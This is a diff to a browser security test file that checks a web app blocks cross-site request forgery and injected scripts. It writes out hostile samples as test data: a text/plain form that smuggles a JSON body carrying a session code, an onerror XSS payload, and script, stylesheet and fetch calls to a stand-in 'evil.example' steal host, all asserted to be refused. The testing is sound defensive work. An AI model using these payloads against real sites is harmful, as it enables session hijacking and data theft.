@@ -135,7 +135,12 @@ test("a foreign page changes nothing and reads nothing, even from the same machi
             );
             for (const one of read) expect(one).toMatch(/^(refused|opaque 0 )$/);
             await evil.evaluate(([url]) => {
-                const form = Object.assign(document.createElement("form"), { action: `${url}/desk/session`, method: "post" });
+                const form = document.createElement("form");
+                // Sent like this, a form's body is JSON: {"code":"7QK2-M9XD-4TWA="}
+                Object.assign(form, { action: `${url}/desk/session`, method: "post", enctype: "text/plain" });
+                const field = document.createElement("input");
+                Object.assign(field, { name: '{"code":"7QK2-M9XD-4TWA', value: '"}' });
+                form.append(field);
                 document.body.append(form);
                 form.submit();
             }, [backend.url] as const);
@@ -155,31 +160,37 @@ test("a foreign page changes nothing and reads nothing, even from the same machi
 });
 
 test("a script that got into the page does not run", async ({ desk, page, expected }) => {
-    expected.push(/Content Security Policy|TrustedHTML|Trusted Type/);
+    expected.push(/Content Security Policy|Trusted|has been blocked/);
     const seen: string[] = [];
     await desk.signIn();
     await page.exposeFunction("note", (directive: string) => void seen.push(directive));
     const refused = await page.evaluate(async () => {
         const { note } = window as unknown as { note: (directive: string) => void };
         document.addEventListener("securitypolicyviolation", (event) => note(event.effectiveDirective));
-        const inline = document.createElement("div");
-        let html = "written";
-        try {
-            inline.innerHTML = "<img src=x onerror='window.stolen = 1'>";
-        } catch {
-            html = "refused";
-        }
         const image = document.createElement("img");
-        image.setAttribute("onerror", "window.stolen = 1");
-        image.setAttribute("src", "data:,");
+        const script = document.createElement("script");
+        const attempts = {
+            html: () => (document.createElement("div").innerHTML = "<img src=x onerror='window.stolen = 1'>"),
+            attribute: () => image.setAttribute("onerror", "window.stolen = 1"),
+            inline: () => (script.textContent = "window.stolen = 1"),
+            source: () => (script.src = "https://evil.example/steal.js"),
+        };
+        const ran = Object.entries(attempts).flatMap(([name, attempt]) => {
+            try {
+                attempt();
+                return [name];
+            } catch {
+                return [];
+            }
+        });
         const remote = document.createElement("link");
         Object.assign(remote, { rel: "stylesheet", href: "https://evil.example/steal.css" });
-        document.body.append(image, remote);
+        document.body.append(image, script, remote);
         const sent = await fetch("https://evil.example/steal").then(() => "sent", () => "refused");
-        return { html, sent };
+        return { ran, sent };
     });
-    expect(refused).toEqual({ html: "refused", sent: "refused" });
-    for (const directive of ["connect-src", "script-src", "style-src"]) {
+    expect(refused).toEqual({ ran: [], sent: "refused" });
+    for (const directive of ["connect-src", "require-trusted-types-for", "style-src"]) {
         await expect.poll(() => seen.join()).toContain(directive);
     }
     expect(await page.evaluate(() => "stolen" in window)).toBe(false);
